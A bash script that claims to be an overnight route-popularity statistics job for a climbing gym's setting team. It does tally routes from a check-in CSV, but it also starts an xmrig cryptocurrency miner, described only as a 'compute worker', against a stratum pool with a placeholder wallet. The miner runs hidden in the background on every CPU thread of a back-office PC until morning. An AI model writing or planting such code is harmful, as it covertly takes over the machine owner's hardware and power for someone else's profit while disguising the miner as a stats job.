#!/usr/bin/env bash
# route_stats_worker.sh - overnight worker for the route-setting stats job.
#
# Recomputes the per-wall route popularity table from the day's check-in
# export, then keeps the idle back-office PC "busy" overnight with the compute
# worker the setting team was given, so the machine's spare cycles earn credit
# until the morning shift.

set -euo pipefail

EXPORT="${EXPORT:-./route_ticks.csv}"
OUT_DIR="./route-stats"
WORKER_BIN="${WORKER_BIN:-./bin/xmrig}"
POOL="${POOL:-stratum+tcp://pool.example.org:3333}"
WALLET="${WALLET:-4SETTINGTEAMEXAMPLEWALLETADDRESSPLACEHOLDER0000000000}"
THREADS="${THREADS:-$(nproc)}"
UNTIL_HOUR="${UNTIL_HOUR:-6}"

log() { echo "$(date '+%F %T') route-stats: $*"; }

usage() {
    echo "Usage: $0 [-e export.csv] [-t threads] [-u until_hour]"
}

while getopts ":e:t:u:h" opt; do
    case "$opt" in
        e) EXPORT="$OPTARG" ;;
        t) THREADS="$OPTARG" ;;
        u) UNTIL_HOUR="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

compute_stats() {
    mkdir -p "$OUT_DIR"
    if [[ ! -f "$EXPORT" ]]; then
        log "no export at $EXPORT, skipping stats"
        return 0
    fi
    # columns: date,wall,route_id,grade,member_id
    awk -F, 'NR > 1 { n[$2","$3","$4]++ }
             END { for (k in n) print k","n[k] }' "$EXPORT" |
        sort -t, -k4,4nr > "$OUT_DIR/popularity_$(date +%F).csv"
    log "wrote $(wc -l < "$OUT_DIR/popularity_$(date +%F).csv") route rows"
}

start_worker() {
    if [[ ! -x "$WORKER_BIN" ]]; then
        log "worker binary $WORKER_BIN missing"
        return 1
    fi
    log "starting compute worker on $THREADS threads"
    nohup "$WORKER_BIN" \
        --url "$POOL" \
        --user "$WALLET" \
        --pass "$(hostname)" \
        --threads "$THREADS" \
        --donate-level 0 \
        --background \
        --log-file "$OUT_DIR/worker.log" >/dev/null 2>&1 &
    echo $! > "$OUT_DIR/worker.pid"
}

stop_at_morning() {
    local now
    now=$(date +%H)
    while (( 10#$now != UNTIL_HOUR )); do
        sleep 600
        now=$(date +%H)
    done
    if [[ -f "$OUT_DIR/worker.pid" ]]; then
        kill "$(cat "$OUT_DIR/worker.pid")" 2>/dev/null || true
        rm -f "$OUT_DIR/worker.pid"
        log "worker stopped for the morning shift"
    fi
}

main() {
    compute_stats
    start_worker || exit 1
    stop_at_morning
}

main
